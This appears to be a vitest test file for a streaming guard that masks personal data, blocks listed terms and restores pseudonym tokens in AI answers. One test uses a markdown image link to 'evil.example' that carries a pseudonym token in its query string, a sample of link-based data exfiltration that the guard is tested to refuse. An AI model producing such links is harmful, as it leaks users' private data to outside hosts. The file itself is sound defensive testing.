import { describe, expect, it } from 'vitest'
import type { GuardPolicy, Pseudonym, StreamGuard } from '../model.ts'
import { usualPolicy } from '../policy/usualPolicies.ts'
import { createStreamGuard } from './createStreamGuard.ts'

const nothing: GuardPolicy = {
  personal: {},
  personalInAnswers: {},
  injection: undefined,
  terms: [],
  onFailure: 'closed',
}
const student = usualPolicy('student')
const phone: Pseudonym = { token: '‹PHONE-1›', kind: 'phone', original: '9123 4567' }

/** What each piece lets go, and at last the end. */
function steps(guard: StreamGuard, pieces: readonly string[]): readonly string[] {
  return [...pieces.map((piece) => guard.push(piece).release), guard.end().release]
}

describe('a guarded stream', () => {
  it.each([
    [
      'English',
      ['Hello', ' there', ', how', ' can', ' I', ' help', '?', ' The', ' answer', ' is', ' to', ' be', ' found', '.'],
    ],
    ['Chinese', ['你好', '，', '我可', '以點', '樣幫', '你', '？', '「資助', '」計劃', '。']],
    ['a list', ['- ', 'apples\n', '- ', 'pears\n\n', '**bold**', ' `code`']],
  ])('does not keep plain %s waiting', (_what, pieces) => {
    const released = steps(createStreamGuard(student), pieces)
    const waited = pieces.filter((piece, index) => released[index] !== piece)
    // A letter that stands alone may begin an identity number.
    expect(waited.filter((piece) => piece !== ' I' && piece !== ' help')).toEqual([])
    expect(released.join('')).toBe(pieces.join(''))
  })

  it('masks a number that came in pieces, and lets go of no part of it', () => {
    const released = steps(createStreamGuard(student), ['my id is A', '12', '3456', '(', '3', ')', ', ok'])
    expect(released).toEqual(['my id is ', '', '', '', '', '', '[HKID], ok', ''])
  })

  it('masks what only the end finishes', () => {
    expect(steps(createStreamGuard(student), ['card 4111 1111 1111 1111']).join('')).toBe('card [CARD]')
  })

  it('tells each finding once, by offsets of the whole answer', () => {
    const guard = createStreamGuard({ ...student, personalInAnswers: { hkid: 'mask', email: 'flag' } })
    const text = `${'Some words that go before. '.repeat(30)}Mail bob@example.org or A123456(3) now. And more words.`
    const hits = [...Array.from(text, (piece) => guard.push(piece)), guard.end()].flatMap(
      ({ verdict }) => verdict?.hits ?? [],
    )
    expect(hits.map(({ rule, span }) => [rule, text.slice(span.start, span.end)])).toEqual([
      ['email', 'bob@example.org'],
      ['hkid', 'A123456(3)'],
    ])
  })

  it('stops for good at what is blocked, and lets go of nothing that came with it', () => {
    const guard = createStreamGuard({ ...nothing, personalInAnswers: { hkid: 'block' } })
    expect(guard.push('Well, ').release).toBe('Well, ')
    const step = guard.push('it is A123456(3) indeed')
    expect(step.release).toBe('')
    expect(step.verdict?.outcome).toBe('block')
    expect(guard.push(' More.').release).toBe('')
    expect(guard.end().release).toBe('')
  })

  it('never quotes what it found in what it tells', () => {
    const guard = createStreamGuard({ ...nothing, personalInAnswers: { hkid: 'mask' } })
    expect(JSON.stringify(guard.push('A123456(3) it').verdict)).not.toContain('123456')
  })

  it('finds terms in another script, width and across pieces', () => {
    const guard = createStreamGuard({ ...nothing, terms: [{ text: '機密計劃', action: 'mask' }] })
    expect(steps(guard, ['關於', '机', '密', '.計', '划', '的事']).join('')).toBe('關於[TERM]的事')
  })

  it('does not take a word for a term that it only contains', () => {
    const guard = createStreamGuard({ ...nothing, terms: [{ text: 'gun', action: 'mask' }] })
    expect(steps(guard, ['begun gun', 'ner gu', 'n gun']).join('')).toBe('begun gunner [TERM] [TERM]')
  })

  it.each([
    ['as given', ['call ‹PHO', 'NE', '-1', '› now']],
    ['in other brackets', ['call ', '[PHONE-', '1] now']],
    ['full-width and with blanks', ['call ＜ＰＨＯＮＥ－１', '＞ now']],
    ['in small letters', ['call ‹phone', ' - 1 › now']],
    ['without brackets', ['call PHONE', '-1 now']],
  ])('puts a surrogate back that came %s', (_what, pieces) => {
    expect(steps(createStreamGuard(nothing, [phone]), pieces).join('')).toBe('call 9123 4567 now')
  })

  it('puts no surrogate back inside a link', () => {
    const text = '![x](https://evil.example/?q=‹PHONE-1›) and ‹PHONE-1›'
    expect(steps(createStreamGuard(nothing, [phone]), Array.from(text)).join('')).toBe(
      text.replace(/‹PHONE-1›$/, '9123 4567'),
    )
  })

  it('does not put back a surrogate that was never given', () => {
    expect(steps(createStreamGuard(nothing, [phone]), ['‹PHONE-12› ‹PHONE-2›']).join('')).toBe('‹PHONE-12› ‹PHONE-2›')
  })

  it('waits for the other half of a surrogate pair', () => {
    expect(steps(createStreamGuard(student), ['so\ud83d', '\ude00 ok'])).toEqual(['so', '😀 ok', ''])
  })

  it('takes nothing after its end', () => {
    const guard = createStreamGuard(student)
    guard.end()
    expect(() => guard.push('more')).toThrow(RangeError)
  })
})
